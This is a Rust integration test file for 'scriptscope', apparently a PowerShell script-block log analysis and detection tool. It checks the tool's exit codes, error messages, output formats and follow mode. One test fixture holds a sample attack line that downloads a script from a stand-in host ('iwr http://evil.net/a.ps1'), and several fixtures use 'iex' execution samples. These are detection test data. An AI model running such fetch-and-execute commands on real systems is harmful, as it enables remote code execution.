//! The program as a user runs it: what it says, what it refuses, and how it ends.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice
)]

use serde_json::{Value, json};
use std::fs::{self, OpenOptions};
use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};
use tempfile::TempDir;

const PROGRAM: &str = env!("CARGO_BIN_EXE_scriptscope");

/// How long a test waits for what a running program prints.
const PATIENCE: Duration = Duration::from_secs(60);

struct Ended {
    status: i32,
    out: String,
    err: String,
}

fn run(folder: &Path, words: &[&str]) -> Ended {
    let output = Command::new(PROGRAM).args(words).current_dir(folder).output().unwrap();
    Ended {
        status: output.status.code().unwrap_or(-1),
        out: String::from_utf8(output.stdout).unwrap(),
        err: String::from_utf8(output.stderr).unwrap(),
    }
}

fn event(number: usize, computer: &str, text: &str) -> String {
    let event = json!({
        "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "ProcessID": 7,
        "Computer": computer, "ScriptBlockText": text, "ScriptBlockId": format!("id-{number}"), "Path": "",
        "MessageNumber": 1, "MessageTotal": 1, "EventRecordID": number,
        "TimeCreated": format!("2026-08-08T{:02}:{:02}:{:02}Z", number / 3600, number / 60 % 60, number % 60),
    });
    format!("{event}\n")
}

/// A folder with a log of these texts, `log.json`.
fn folder(texts: &[&str]) -> TempDir {
    let folder = tempfile::tempdir().unwrap();
    let log: String =
        texts.iter().enumerate().map(|(index, text)| event(index, "FS03", text)).collect();
    fs::write(folder.path().join("log.json"), log).unwrap();
    folder
}

const REMOTING: &str = "Enable-PSRemoting -Force";

/// A log whose last record is cut.
fn damaged() -> TempDir {
    let folder = folder(&[REMOTING, "Get-Date"]);
    let mut log = OpenOptions::new().append(true).open(folder.path().join("log.json")).unwrap();
    log.write_all(&event(9, "FS03", "Get-Item").as_bytes()[..90]).unwrap();
    log.write_all(b"\n").unwrap();
    folder
}

#[test]
fn lists_in_json_say_what_was_read_and_what_went_wrong() {
    let folder = damaged();
    for words in [
        &["blocks"][..],
        &["search", "remoting"],
        &["search", "* | stats count"],
        &["search", "remoting", "--around", "1"],
        &["scripts"],
        &["risk"],
        &["iocs", "--all"],
    ] {
        let words = [words, &["log.json", "-f", "json"]].concat();
        let Ended { out, err, .. } = run(folder.path(), &words);
        let list: Value = serde_json::from_str(&out).unwrap_or_else(|_| panic!("{words:?}: {out}"));
        assert_eq!(list["sources"][0]["name"], "log.json", "{words:?}");
        assert_eq!(list["problems"][0]["source"], "log.json", "{words:?} {out}");
        assert!(err.contains("log.json"), "{words:?} {err}");
    }
    for (words, format) in
        [("blocks", "csv"), ("blocks", "ndjson"), ("scripts", "ndjson"), ("risk", "ndjson")]
    {
        let Ended { err, .. } = run(folder.path(), &[words, "log.json", "-f", format]);
        assert!(err.contains("log.json, "), "{words} {format} {err}");
    }
}

#[test]
fn a_limit_leaves_the_numbers_true() {
    let folder = folder(&["a 1", "a 2", "b"]);
    let head = |words: &[&str]| {
        let out = run(folder.path(), words).out;
        (out.lines().next().unwrap_or_default().to_owned(), out.lines().count())
    };
    let all = ("2 of 3 script blocks".to_owned(), 3);
    assert_eq!(head(&["search", "a", "log.json"]), all);
    let one = ("2 of 3 script blocks, 1 listed because of --limit".to_owned(), 2);
    assert_eq!(head(&["search", "a", "log.json", "--limit", "1"]), one);
    let two = ("3 of 3 script blocks, 2 listed because of --limit".to_owned(), 3);
    assert_eq!(head(&["blocks", "log.json", "--limit", "2"]), two);
    let json = run(folder.path(), &["search", "a", "log.json", "--limit", "1", "-f", "json"]).out;
    let json: Value = serde_json::from_str(&json).unwrap();
    assert_eq!((&json["matching"], &json["total"]), (&2.into(), &3.into()));
    assert_eq!(json["rows"].as_array().unwrap().len(), 1);
    let query = "* | stats count by ScriptBlockText";
    let Ended { out, err, .. } = run(folder.path(), &["search", query, "log.json", "--limit", "1"]);
    assert_eq!((out.lines().count(), &*err), (2, "scriptscope: 1 of 3 rows are listed\n"));
}

#[test]
fn options_without_an_effect_are_refused_by_name() {
    let folder = folder(&[REMOTING]);
    for (words, refused) in [
        (&["blocks", "--table", "risk"][..], "--table"),
        (&["blocks", "--min-score", "5"], "--min-score"),
        (&["blocks", "--allow", "a.json"], "--allow"),
        (&["blocks", "--id", "x", "--on", "FS03"], "--on"),
        (&["blocks", "--text", "x", "--limit", "1"], "--limit"),
        (&["blocks", "--text", "x", "--format", "csv"], "--format"),
        (&["search", "* | stats count", "--on", "FS03"], "--on"),
        (&["search", "* | stats count", "--sort", "time"], "--sort"),
        (&["search", "* | stats count", "--unmatched"], "--unmatched"),
        (&["search", "* | stats count", "--descending"], "--descending"),
        (&["search", "a", "--unmatched"], "--unmatched"),
        (&["search", "a", "--matched"], "--matched"),
        (&["search", "a", "--no-builtin"], "--no-builtin"),
        (&["search", "a", "--risk-window", "3"], "--risk-window"),
        (&["scripts", "--assets", "a.csv"], "--assets"),
        (&["iocs", "--table", "risk"], "--table"),
        (&["iocs", "--risk-threshold", "3"], "--risk-threshold"),
        (&["iocs", "--no-defang", "--format", "json"], "--no-defang"),
        (&["partial", "--format", "json"], "--format"),
        (&["merge", "--sha256"], "--sha256"),
        (&["merge", "--password", "x"], "--password"),
        (&["case", "--format", "json"], "--format"),
        (&["case", "--assets", "a.csv"], "--assets"),
        (&["report", "--table", "risk"], "--table"),
        (&["test", "--tactic-rules", "3"], "--tactic-rules"),
        (&["rules", "--assets", "a.csv"], "--assets"),
        (&["--format", "json", "--table", "risk"], "--table"),
        (&["--table", "risk"], "--table"),
        (&["--follow", "--strict"], "--strict"),
        (&["--follow", "--table", "risk"], "--table"),
    ] {
        let words = [words, &["log.json"]].concat();
        let Ended { status, out, err } = run(folder.path(), &words);
        assert_eq!((status, &*out), (2, ""), "{words:?} {err}");
        assert!(err.starts_with(&format!("scriptscope: {refused} ")), "{words:?} {err}");
    }
    let Ended { status, err, .. } = run(folder.path(), &["rules", "--since", "2026-01-01"]);
    assert!(status == 2 && err.contains("name logs to run the rules on"), "{err}");
}

#[test]
fn wrong_numbers_are_refused_in_plain_words() {
    let folder = folder(&[REMOTING]);
    for (words, message) in [
        (["blocks", "--limit", "x"], "expected a whole number from 0"),
        (["blocks", "--limit", "-1"], "expected a whole number from 0"),
        (["risk", "--min-score", "high"], "expected a number"),
        (["risk", "--risk-window", "-5"], "riskWindow: -5 is not a number of hours"),
        (["risk", "--tactic-rules", "1.5"], "expected a whole number from 0"),
        (["blocks", "--sort", "legth"], "'length'"),
    ] {
        let words = [&words[..], &["log.json"]].concat();
        let Ended { status, err, .. } = run(folder.path(), &words);
        assert!(status == 2 && err.contains(message), "{words:?} {err}");
    }
}

#[test]
fn the_help_of_a_command_shows_only_what_it_takes() {
    let folder = folder(&[]);
    for (command, formats) in [
        ("blocks", "table, json, ndjson, csv]"),
        ("risk", "table, json, ndjson]"),
        ("rules", "table, json, sarif, github]"),
        ("report", "html, markdown]"),
    ] {
        let help = run(folder.path(), &[command, "--help"]).out;
        let help = help.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(help.contains(&format!("[possible values: {formats}")), "{command} {help}");
        assert!(!help.contains("--table"), "{command}");
    }
    assert!(!run(folder.path(), &["partial", "--help"]).out.contains("--format"));
}

#[test]
fn an_error_in_a_query_has_a_caret_under_its_place() {
    let folder = folder(&[REMOTING]);
    for (query, caret) in [
        ("(a OR", "1 │ (a OR\n  │      ^"),
        ("lsass |", "1 │ lsass |\n  │        ^"),
        ("a AND", "1 │ a AND\n  │      ^"),
        ("Computer=日本 | stat count", "1 │ Computer=日本 | stat count\n  │                 ^"),
        ("Computer=a\t| stat count", "1 │ Computer=a | stat count\n  │              ^"),
        ("Foo=1", "1 │ Foo=1\n  │ ^"),
    ] {
        let Ended { status, err, .. } = run(folder.path(), &["search", query, "log.json"]);
        assert_eq!(status, 2, "{query}: {err}");
        assert!(err.contains("scriptscope: query: ") && err.contains(caret), "{query}: {err}");
        assert!(!err.contains("query.yml"), "{err}");
    }
}

/// The words of the table of exit statuses in the documentation, by command.
fn documented() -> Vec<(String, [String; 3])> {
    let text = include_str!("../../../docs/command-line.md");
    let rows = text.lines().skip_while(|line| !line.starts_with("| command | 0 | 1 | 2 |")).skip(2);
    rows.take_while(|line| line.starts_with('|'))
        .map(|line| {
            let cells: Vec<&str> = line.trim_matches('|').split(" | ").map(str::trim).collect();
            let own = |index: usize| cells[index].to_owned();
            (own(0).trim_matches('`').to_owned(), [own(1), own(2), own(3)])
        })
        .collect()
}

/// Exit statuses are those of the documentation's table.
#[test]
fn commands_end_as_documented() {
    let empty = tempfile::tempdir().unwrap();
    let hostile = folder(&[REMOTING, "Enable-PSRemoting; iwr http://evil.net/a.ps1"]);
    let harmless = folder(&["Get-Date"]);
    let none = tempfile::tempdir().unwrap();
    fs::write(none.path().join("log.json"), "{\"EventID\": 1, \"Channel\": \"Security\"}\n")
        .unwrap();
    fs::write(hostile.path().join("a.ps1"), "iex ('a' + 'b')").unwrap();
    fs::write(harmless.path().join("a.ps1"), "Get-Date").unwrap();
    for place in [&hostile, &harmless] {
        assert_eq!(run(place.path(), &["partial", "-o", "p", "log.json"]).status, 0);
        assert_eq!(run(place.path(), &["case", "-o", "c", "log.json"]).status, 0);
        let expected = if place.path() == hostile.path() { "a" } else { "zzz" };
        let rule = format!(
            "name: R\nid: r\ntype: TTP\nsearch: 'EventCode=4104 ScriptBlockText=*{expected}*'\nscriptscope:\n  samples:\n  - {{name: s, match: false, text: \"abc\"}}\n"
        );
        fs::write(place.path().join("r.yml"), rule).unwrap();
    }
    let table = documented();
    let commands: Vec<&str> = table.iter().map(|(command, _)| command.as_str()).collect();
    assert_eq!(
        commands,
        [
            "scriptscope",
            "blocks",
            "search",
            "scripts",
            "iocs",
            "risk",
            "merge",
            "unwrap",
            "test",
            "rules",
            "partial",
            "case",
            "report"
        ]
    );
    for (command, [nothing, found, failed]) in &table {
        assert!(!failed.is_empty());
        let words = |input: &'static str| -> Vec<&str> {
            match command.as_str() {
                "scriptscope" => vec![input],
                "search" => vec!["search", "remoting", input],
                "merge" => vec!["merge", if input == "log.json" { "p" } else { input }],
                "unwrap" => vec!["unwrap", if input == "log.json" { "a.ps1" } else { input }],
                "test" => vec!["test", if input == "log.json" { "r.yml" } else { input }],
                "partial" | "case" => vec![command, "-o", "out", input],
                command => vec![command, input],
            }
        };
        let status = |place: &TempDir, input| run(place.path(), &words(input)).status;
        let on_hostile = if found == "-" { 0 } else { 1 };
        assert_eq!(status(&hostile, "log.json"), on_hostile, "{command}: {found}");
        let quiet = match command.as_str() {
            // Every script block is listed.
            "blocks" | "scripts" => &none,
            _ => &harmless,
        };
        assert_eq!(status(quiet, "log.json"), 0, "{command}: {nothing}");
        assert_eq!(status(&empty, "gone.json"), 2, "{command}: {failed}");
    }
    for command in ["scriptscope", "risk", "iocs", "blocks", "scripts", "case", "report", "partial"]
    {
        let words = match command {
            "scriptscope" => vec!["--strict", "-q", "-o", "out", "log.json"],
            command => vec![command, "--strict", "-q", "-o", "out", "log.json"],
        };
        assert_eq!(run(damaged().path(), &words).status, 2, "{command}");
    }
}

#[test]
#[cfg(target_os = "linux")]
fn output_that_cannot_be_written_ends_every_command_with_2() {
    let folder = folder(&[REMOTING]);
    let place = folder.path();
    fs::write(place.join("a.ps1"), "iex ('a' + 'b')").unwrap();
    assert_eq!(run(place, &["partial", "-o", "p", "log.json"]).status, 0);
    assert_eq!(run(place, &["case", "-o", "c", "log.json"]).status, 0);
    let rule = "name: R\nid: r\ntype: TTP\nsearch: 'EventCode=4104 ScriptBlockText=*a*'\nscriptscope:\n  samples:\n  - {name: s, match: true, text: \"abc\"}\n";
    fs::write(place.join("r.yml"), rule).unwrap();
    for words in [
        &["log.json"][..],
        &["log.json", "-f", "json"],
        &["log.json", "-f", "csv"],
        &["log.json", "-f", "html"],
        &["log.json", "-f", "stix"],
        &["log.json", "-f", "scripts-zip"],
        &["--print-config", "-f", "csv"],
        &["--completions", "bash"],
        &["--man"],
        &["--help"],
        &["--version"],
        &["rules"],
        &["rules", "-f", "json"],
        &["rules", "--as", "spl", "40e3b299-19a5-4460-96e9-e1467f714f8e"],
        &["test", "r.yml"],
        &["test", "r.yml", "-f", "junit"],
        &["partial", "log.json"],
        &["merge", "p"],
        &["merge", "p", "-f", "json"],
        &["unwrap", "a.ps1"],
        &["unwrap", "a.ps1", "-f", "json"],
        &["blocks", "log.json"],
        &["blocks", "log.json", "-f", "json"],
        &["search", "remoting", "log.json"],
        &["search", "remoting", "log.json", "-f", "ndjson"],
        &["search", "* | stats count", "log.json"],
        &["scripts", "log.json"],
        &["risk", "log.json"],
        &["iocs", "--all", "log.json"],
        &["case", "log.json"],
        &["case", "merge", "c", "c"],
        &["report", "log.json"],
    ] {
        let full = OpenOptions::new().write(true).open("/dev/full").unwrap();
        let ended = Command::new(PROGRAM).args(words).current_dir(place).stdout(full).output();
        let ended = ended.unwrap();
        let err = String::from_utf8_lossy(&ended.stderr);
        assert_eq!(ended.status.code(), Some(2), "{words:?} {err}");
        assert!(err.contains("scriptscope: standard output: "), "{words:?} {err}");
        if words.iter().any(|word| word.starts_with("--") && *word != "--as" && *word != "--all") {
            continue;
        }
        let to_file = [words, &["-o", "/dev/full"]].concat();
        let Ended { status, err, .. } = run(place, &to_file);
        assert_eq!(status, 2, "{to_file:?} {err}");
        assert!(err.contains("--output /dev/full: "), "{to_file:?} {err}");
    }
}

/// A program that runs, and what it printed so far.
struct Running {
    child: Child,
    out: PathBuf,
    err: PathBuf,
    _folder: TempDir,
}

impl Running {
    fn start(folder: &Path, words: &[&str]) -> Self {
        let own = tempfile::tempdir().unwrap();
        let (out, err) = (own.path().join("out"), own.path().join("err"));
        let file = |path: &Path| Stdio::from(fs::File::create(path).unwrap());
        let mut command = Command::new(PROGRAM);
        command.args(words).current_dir(folder).stdout(file(&out)).stderr(file(&err));
        Self { child: command.spawn().unwrap(), out, err, _folder: own }
    }

    fn wait_for(&self, path: &Path, holds: impl Fn(&str) -> bool) -> String {
        let started = Instant::now();
        loop {
            let text = fs::read_to_string(path).unwrap();
            if holds(&text) {
                return text;
            }
            assert!(started.elapsed() < PATIENCE, "{text}");
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
#[cfg(unix)]
fn following_says_each_problem_once() {
    let folder = damaged();
    let bad = "name: Bad\nid: bad\ntype: TTP\nsearch: 'EventCode=4104 | nonsense'\n";
    fs::write(folder.path().join("bad.yml"), bad).unwrap();
    for format in ["table", "ndjson"] {
        let words = ["--follow", "--format", format, "--rules", "bad.yml", "log.json", "gone.json"];
        let running = Running::start(folder.path(), &words);
        running.wait_for(&running.out, |out| out.contains("Enable-PSRemoting"));
        running.wait_for(&running.err, |err| {
            err.contains("nonsense") && err.contains("gone.json") && err.contains("log.json, ")
        });
        let mut log = OpenOptions::new().append(true).open(folder.path().join("log.json")).unwrap();
        log.write_all(event(30, "DC01", REMOTING).as_bytes()).unwrap();
        running.wait_for(&running.out, |out| out.contains("DC01"));
        std::thread::sleep(Duration::from_millis(1_500));
        let err = fs::read_to_string(&running.err).unwrap();
        for once in ["Bad cannot run", "gone.json", "log.json, "] {
            assert_eq!(err.matches(once).count(), 1, "{once}: {err}");
        }
        let mut running = running;
        let id = running.child.id().to_string();
        assert!(Command::new("kill").args(["-INT", &id]).status().unwrap().success());
        assert_eq!(running.child.wait().unwrap().code(), Some(130));
    }
}

#[test]
fn following_ends_when_nobody_reads() {
    let folder = folder(&[REMOTING]);
    let mut child = Command::new(PROGRAM)
        .args(["--follow", "log.json"])
        .current_dir(folder.path())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = [0; 1];
    child.stdout.take().unwrap().read_exact(&mut first).unwrap();
    let mut log = OpenOptions::new().append(true).open(folder.path().join("log.json")).unwrap();
    log.write_all(event(30, "DC01", REMOTING).as_bytes()).unwrap();
    let started = Instant::now();
    while child.try_wait().unwrap().is_none() {
        assert!(started.elapsed() < PATIENCE);
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(child.wait().unwrap().code(), Some(1));
}

#[test]
fn a_search_of_much_prints_what_it_finds_while_it_reads() {
    // More than is read in a moment: the log is divided, and its rows come in the order of the file.
    let folder = tempfile::tempdir().unwrap();
    let filler = "Write-Host filler ".repeat(60);
    let mut log = String::new();
    let mut found = Vec::new();
    for number in 0..15_000 {
        let is_found = number % 1_000 == 0;
        let text = if is_found { format!("needle {number}") } else { format!("{filler}{number}") };
        if is_found {
            found.push(format!("needle {number}"));
        }
        log.push_str(&event(number, "FS03", &text));
    }
    assert!(log.len() > 17 << 20);
    fs::write(folder.path().join("log.json"), &log).unwrap();
    // Its records are in another log too, and count once.
    fs::write(folder.path().join("again.json"), &log[..1 << 20]).unwrap();
    let search = |more: &[&str]| {
        run(folder.path(), &[&["search", "needle", "log.json", "again.json"], more].concat())
    };
    let table = search(&["-q"]);
    assert_eq!(table.status, 1);
    let lines: Vec<&str> = table.out.lines().collect();
    assert_eq!(lines.last(), Some(&"15 of 15,000 script blocks"));
    let needles: Vec<&str> =
        lines.iter().filter_map(|line| line.find("needle").map(|at| &line[at..])).collect();
    assert_eq!(needles, found);
    let early = search(&["-q", "-f", "ndjson", "-j", "1"]).out;
    assert_eq!(early.lines().count(), 15);
    // Not known before all was read.
    assert!(early.contains("\"seenOn\":null"));
    let sorted = search(&["-q", "--sort", "time", "-f", "ndjson"]).out;
    assert_eq!(sorted.lines().count(), 15);
    assert!(sorted.contains("\"seenOn\":1"));
}

#[test]
fn nothing_at_risk_is_said() {
    let folder = folder(&["Get-Date"]);
    let out = run(folder.path(), &["risk", "log.json"]).out;
    assert!(out.contains("No risk: no rule matches any of 1 script block."), "{out}");
    assert!(!out.contains("RISK"), "{out}");
}

#[test]
fn what_hides_results_is_named() {
    let folder = folder(&[REMOTING]);
    let allow = json!([{"name": "the lab", "search": "Computer=FS*"}]);
    fs::write(folder.path().join("allow.json"), allow.to_string()).unwrap();
    let out = run(folder.path(), &["--allow", "allow.json", "log.json"]).out;
    assert!(out.contains("hidden by “the lab”"), "{out}");
    let out =
        run(folder.path(), &["report", "--min-score", "99", "--since", "2020-01-01", "log.json"])
            .out;
    assert!(out.contains("the least score is 99") && out.contains("2020-01-01"), "{out}");
}

#[test]
fn names_of_any_length_lose_no_result() {
    let folder = tempfile::tempdir().unwrap();
    let long = "H".repeat(1_100);
    let log: String =
        (0..4).map(|number| event(number, &format!("{long}{}", number % 2), REMOTING)).collect();
    fs::write(folder.path().join("log.json"), log).unwrap();
    let rows = |words: &[&str]| -> Value {
        let out = run(folder.path(), &[words, &["log.json", "-f", "json"]].concat()).out;
        serde_json::from_str(&out).unwrap()
    };
    let found = rows(&["search", "remoting"]);
    assert_eq!(found["matching"], 4);
    assert_eq!(rows(&["blocks", "--matched"])["matching"], 4);
    assert_eq!(rows(&["scripts"])["rows"][0]["computers"], 2);
    assert_eq!(rows(&["scripts"])["rows"][0]["results"], 1);
    let name = found["rows"][0]["computer"].as_str().unwrap();
    assert!(name.starts_with("HHH") && name.contains('…') && name.len() <= 1_024, "{name}");
}

#[test]
fn a_case_keeps_its_options_and_names_the_place_of_a_wrong_one() {
    let folder = folder(&[REMOTING]);
    let place = folder.path();
    let case = |options: &str| {
        let text =
            format!("{{\"format\":\"scriptscope.case\",\"version\":1,\n\"options\":{options}}}");
        fs::write(place.join("c.json"), text).unwrap();
        run(place, &["--case", "c.json", "-f", "json", "log.json"])
    };
    let report = |ended: Ended| serde_json::from_str::<Value>(&ended.out).unwrap();
    let plain = report(case("{}"));
    let sum = plain["riskObjects"][0]["score"].as_f64().unwrap();
    assert!(plain["findings"].as_array().unwrap().is_empty());
    let low = report(case(&format!("{{\"riskThreshold\": {}}}", sum / 2.0)));
    assert!(!low["findings"].as_array().unwrap().is_empty());
    let over = format!("{{\"riskThreshold\": {}}}", sum / 2.0);
    case(&over);
    let line =
        run(place, &["--case", "c.json", "--risk-threshold", "1000", "-f", "json", "log.json"]);
    assert!(report(line)["findings"].as_array().unwrap().is_empty());
    for (options, message) in [
        (
            "{\"riskWindow\": -5}",
            "c.json:2:26: options: riskWindow: expected a number of hours above 0",
        ),
        ("{\"minScore\": \"x\"}", "c.json:2:24: options: minScore: expected a number of 0 or more"),
    ] {
        let Ended { status, err, .. } = case(options);
        assert_eq!(status, 2);
        assert!(err.contains(message), "{err}");
    }
    for (name, options) in [("a.json", "{\"mode\":\"event\"}"), ("b.json", "{}")] {
        case(options);
        fs::rename(place.join("c.json"), place.join(name)).unwrap();
    }
    let Ended { err, .. } = run(place, &["case", "merge", "a.json", "b.json"]);
    assert!(
        err.contains("option mode: \"event\" in one case and the default in the other"),
        "{err}"
    );
}

#[test]
fn lists_of_assets_have_their_name_once_and_any_separator() {
    let folder = folder(&[REMOTING]);
    let place = folder.path();
    fs::write(place.join("bad.csv"), "host;owner\nFS03;it\n").unwrap();
    let Ended { err, .. } =
        run(place, &["--assets", "bad.csv", "-f", "html", "-o", "r.html", "log.json"]);
    assert_eq!(err.matches("bad.csv").count(), 1, "{err}");
    assert!(err.contains("The first line has: host, owner"), "{err}");
    let page = fs::read_to_string(place.join("r.html")).unwrap();
    assert!(!page.contains("not read in full") && page.contains("1 log was read in full"));
    fs::write(place.join("good.csv"), "nt_host;dns;priority\nFS03;fs03.example;critical\n")
        .unwrap();
    let out = run(place, &["risk", "--assets", "good.csv", "log.json"]).out;
    assert!(out.contains("priority critical"), "{out}");
}

#[test]
fn what_unwrap_leaves_out_is_said() {
    let folder = folder(&[]);
    let place = folder.path();
    let script = "$a = ''; while ($true) { $a += 'x' }; iex ('a' + 'b')";
    fs::write(place.join("a.ps1"), script).unwrap();
    let Ended { status, out, err } = run(place, &["unwrap", "a.ps1"]);
    assert_eq!(status, 1);
    assert!(!out.contains("# limit") && err.contains("not all is shown: "), "{out}{err}");
    let json = run(place, &["unwrap", "-f", "json", "a.ps1"]).out;
    let json: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(json.as_array().unwrap().last().unwrap()["view"], "limit");
}
